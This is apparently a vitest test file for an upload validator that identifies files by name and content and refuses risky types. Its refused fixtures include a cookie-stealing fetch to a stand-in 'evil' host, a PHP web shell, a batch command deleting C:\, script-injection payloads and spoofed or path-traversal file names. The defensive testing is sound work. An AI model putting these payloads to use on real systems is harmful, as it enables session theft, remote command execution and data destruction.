import { crc32 } from 'node:zlib'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { detectKind } from './kind.ts'

const bytes = (text: string) => Buffer.from(text)

/** A zip archive of stored (not compressed) entries. */
function zip(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, text] of Object.entries(entries)) {
    const content = bytes(text)
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt32LE(crc32(content), 10)
    common.writeUInt32LE(content.length, 14)
    common.writeUInt32LE(content.length, 18)
    common.writeUInt16LE(name.length, 22)
    const local = Buffer.concat([bytes('PK\x03\x04'), common, bytes(name), content])
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(offset, 10)
    centrals.push(Buffer.concat([bytes('PK\x01\x02'), Buffer.from([20, 0]), common, tail, bytes(name)]))
    locals.push(local)
    offset += local.length
  }
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 0, 'latin1')
  end.writeUInt16LE(centrals.length, 8)
  end.writeUInt16LE(centrals.length, 10)
  end.writeUInt32LE(Buffer.concat(centrals).length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, ...centrals, end])
}

const openXml = (part: string) =>
  zip({
    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.${part}+xml"/></Types>`,
    '_rels/.rels': '<Relationships/>',
  })

/** The container of old Office files, with one stream in its directory. */
function compound(stream: string): Buffer {
  const file = Buffer.alloc(512 * 3)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  const entry = file.subarray(1024 + 128)
  entry.write(stream, 0, 'utf16le')
  entry.writeUInt16LE((stream.length + 1) * 2, 64)
  entry[66] = 2
  return file
}

const picture = (format: 'png' | 'jpeg' | 'gif') =>
  sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
    .toFormat(format)
    .toBuffer()
const [png, jpeg, gif] = await Promise.all([picture('png'), picture('jpeg'), picture('gif')])
const pdf = bytes('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF')
const mp4 = Buffer.concat([Buffer.from([0, 0, 0, 24]), bytes('ftypisom'), Buffer.from([0, 0, 2, 0]), bytes('isommp42')])
/** A video whose header lists its sound first, as recorders write it. */
const wmv = Buffer.concat([
  Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'),
  Buffer.alloc(14),
  Buffer.from('9107dcb7b7a9cf118ee600c00c205365', 'hex'),
  Buffer.from([78, 0, 0, 0, 0, 0, 0, 0]),
  Buffer.from('409e69f84d5bcf11a8fd00805f5c442b', 'hex'),
  Buffer.alloc(64),
])
const docx = openXml('wordprocessingml.document.main')
const xlsx = openXml('spreadsheetml.sheet.main')
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

test.each([
  ['ghi chú.txt', bytes('Gọi lại cho chị Lan, 10 < 12; giá 5 > 3'), 'txt', 'text/plain'],
  ['a.csv', bytes('BM,Tên\r\n1,Nguyễn'), 'csv', 'text/csv'],
  ['a.csv', utf16('Tên\tSố\r\nLan\t1'), 'csv', 'text/csv'],
  ['a.txt', utf16('Tên').swap16(), 'txt', 'text/plain'],
  ['a.pdf', pdf, 'pdf', 'application/pdf'],
  ['a.doc', compound('WordDocument'), 'doc', 'application/msword'],
  ['a.xls', compound('Workbook'), 'xls', 'application/vnd.ms-excel'],
  ['a.xls', compound('Book'), 'xls', 'application/vnd.ms-excel'],
  ['a.docx', docx, 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['a.xlsx', xlsx, 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['a.PNG', png, 'png', 'image/png'],
  ['a.jpg', jpeg, 'jpg', 'image/jpeg'],
  ['a.jpeg', jpeg, 'jpg', 'image/jpeg'],
  ['a.gif', gif, 'gif', 'image/gif'],
  ['a.mp4', mp4, 'mp4', 'video/mp4'],
  ['a.wmv', wmv, 'wmv', 'video/x-ms-wmv'],
])('%s is accepted', async (name, content, extension, contentType) => {
  expect(await detectKind(content, name)).toEqual({ extension, contentType })
})

const refused: Record<string, Buffer> = {
  svg: bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'svg after a comment': bytes('\ufeff  <!-- x --><svg onload="alert(1)"/>'),
  html: bytes('<!DOCTYPE html><p>hi</p><script>alert(1)</script>'),
  'html in UTF-16': utf16('<html><script>alert(1)</script>'),
  'html behind a sentence': bytes('hello\n<script>alert(1)</script>'),
  xhtml: bytes('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
  xml: bytes('<?xml version="1.0"?><a/>'),
  js: bytes('const x = document.cookie;\nfetch("//evil/" + x)'),
  'js behind a comment': bytes('// jquery\n(function () { alert(1) })()'),
  php: bytes('hello <?php system($_GET["c"]); ?>'),
  bat: bytes('@echo off\r\ndel /q C:\\*'),
  exe: Buffer.concat([bytes('MZ'), Buffer.alloc(200), bytes('PE\0\0')]),
  lnk: Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60)]),
  zip: zip({ 'a.js': 'alert(1)' }),
  rar: Buffer.concat([bytes('Rar!\x1a\x07\x01\x00'), Buffer.alloc(40)]),
  iso: Buffer.concat([Buffer.alloc(32769), bytes('CD001'), Buffer.alloc(100)]),
  msi: compound('SummaryInformation'),
  docm: zip({
    '[Content_Types].xml':
      '<Types><Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
  }),
}

describe.each(Object.entries(refused))('%s', (kind, content) => {
  const own = kind.split(' ')[0]
  test.each([
    `a.${own}`,
    'a.png',
    'a.jpg',
    'a.gif',
    'a.pdf',
    'a.txt',
    'a.csv',
    'a.docx',
    'a.doc',
    'a.mp4',
    'a.png.',
    'a',
  ])('is refused as %s', async (name) => {
    expect(await detectKind(content, name)).toBeUndefined()
  })
})

test.each(['a.svg', 'a.html', 'a.js', 'a.exe', 'a.php', 'a.webp', 'a.png\u202e.exe', 'a.constructor'])(
  'the best of contents is refused under the name %s',
  async (name) => {
    expect(await detectKind(png, name)).toBeUndefined()
    expect(await detectKind(bytes('xin chào'), name)).toBeUndefined()
  },
)

test.each([
  ['a.pdf', png],
  ['a.png', pdf],
  ['a.xlsx', docx],
  ['a.doc', compound('Workbook')],
  ['a.txt', png],
  ['a.mp4', wmv],
])('%s that holds another type is refused', async (name, content) => {
  expect(await detectKind(content, name)).toBeUndefined()
})

test('a picture under another picture’s extension is what its content says', async () => {
  expect(await detectKind(png, 'a.jpg')).toMatchObject({ extension: 'png' })
})

test.each([
  ['.htaccess', bytes('xin chào'), 'txt'],
  ['../../x', png, 'png'],
  ['/etc/passwd', bytes('xin chào'), 'txt'],
])('%s, a name without an extension, is what its content says', async (name, content, extension) => {
  expect(await detectKind(content, name)).toMatchObject({ extension })
})

test.each([
  ['nothing at all', Buffer.alloc(0)],
  ['a NUL', bytes('a\0b')],
  ['an escape sequence', bytes('a\x1b[2Jb')],
  ['broken UTF-8', Buffer.from([0x61, 0xff, 0xfe, 0x62])],
  ['broken UTF-16', Buffer.from([0xff, 0xfe, 0x00, 0xd8])],
])('%s is no text', async (_what, content) => {
  expect(await detectKind(content, 'a.txt')).toBeUndefined()
})

test.each([
  'Let me know = soon',
  'Import khách hàng từ Excel',
  'Start - 9:00\nFunction room 2',
  'document.pdf\nconsole.txt',
  'Set a date with chị Lan',
  'Export 2026 (final)',
  'Từ: a <b@example.vn>',
])('a note that reads %j is a text', async (text) => {
  expect(await detectKind(bytes(text), 'a.txt')).toMatchObject({ extension: 'txt' })
})

test('a file that breaks off is refused, not an error', async () => {
  for (const content of [png.subarray(0, 9), docx.subarray(0, 40), compound('WordDocument').subarray(0, 700)]) {
    for (const name of ['a.png', 'a.docx', 'a.doc']) {
      expect(await detectKind(content, name)).toBeUndefined()
    }
  }
})

test('a picture that unfolds to more than 25 million pixels is none, however small its file', async () => {
  const image = (side: number) =>
    sharp({ create: { width: side, height: side, channels: 3, background: 'white' }, limitInputPixels: false })
      .png({ palette: true, compressionLevel: 9 })
      .toBuffer()
  expect(await detectKind(await image(100), 'a.png')).toMatchObject({ extension: 'png' })
  expect(await detectKind(await image(5_001), 'a.png')).toBeUndefined()
})
